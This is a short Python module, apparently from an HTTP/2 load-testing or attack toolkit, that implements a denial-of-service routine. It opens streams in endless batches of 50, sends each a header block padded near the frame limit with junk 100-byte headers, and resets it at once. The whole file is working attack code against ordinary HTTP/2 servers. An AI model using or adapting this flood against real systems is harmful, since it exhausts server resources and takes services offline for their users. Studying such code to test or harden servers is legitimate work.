"""Requests with a hundred headers of a hundred bytes each, more than anybody reads."""

import wire

WAYS = ("plain",)
FLOOR = {"streams": 500}
BATCH = 50


def attack(target):
    target.again_and_again(lambda connection: flood(target, connection))


def flood(target, connection):
    block = connection_block(target)
    while True:
        out = []
        for _ in range(BATCH):
            stream = connection.next_stream
            connection.next_stream += 2
            out += (wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, stream, block),
                    wire.rst_stream(stream))
        connection.send(b"".join(out))
        connection.count("streams", BATCH)


def connection_block(target):
    headers = b"".join(wire.literal(name, value) for name, value in
                       wire.request_headers(wire.LIST_DISPLAYS, target.scheme))
    while len(headers) < wire.FRAME_MAX - 150:
        headers += wire.literal(f"x-{len(headers)}", "y" * 100)
    return headers
